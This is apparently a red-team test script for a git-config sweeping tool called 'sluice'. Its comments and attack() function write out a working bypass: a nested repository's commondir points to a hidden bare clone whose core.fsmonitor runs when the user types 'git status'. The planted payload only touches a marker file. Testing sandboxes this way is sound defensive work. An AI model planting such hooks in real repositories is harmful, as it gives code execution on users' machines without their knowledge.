#!/usr/bin/env bash
# red team 49: a nested repository's `commondir`, which the sweep does not
# follow. Git reads a repository's config (and objects, refs) from the
# folder its gitdir's `commondir` file names, the way a linked worktree's
# gitdir names the main one's. The command makes a nested repository
# `vendor`, adds it as a gitlink (what the sweep follows), clones it bare
# into a plain folder of the workspace, `.cache`, gives that clone a
# core.fsmonitor of its own, and writes vendor/.git/commondir naming it.
# The sweep sweeps vendor/.git's own config (unused now) and never looks at
# .cache (no gitlink, no gitdir names it: git-sweep.c walk() notes a
# commondir only inside a gitdir). The user's plain `git status` at the
# top enters the gitlink, reads .cache/config, and runs it.
# usage: 49-nested-commondir.sh /path/to/sluice   (as root or a user)
NAME=nested-commondir
HOLE="vendor/.git/commondir named a bare clone in a plain folder of the workspace whose config the sweep never read; the user's git status ran its core.fsmonitor"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1"; }
attack() {
  cat <<EOA
G='env PATH=/usr/bin:/bin git' &&
\$G init -q vendor && echo v >vendor/v && \$G -C vendor add v && \$G -C vendor commit -qm v &&
\$G add vendor 2>/dev/null && \$G clone -q --bare vendor .cache &&
\$G config -f .cache/config core.fsmonitor "touch $1; false" &&
echo ../../.cache >>vendor/.git/commondir
EOA
}
trigger() { user_status "$1"; }
finish
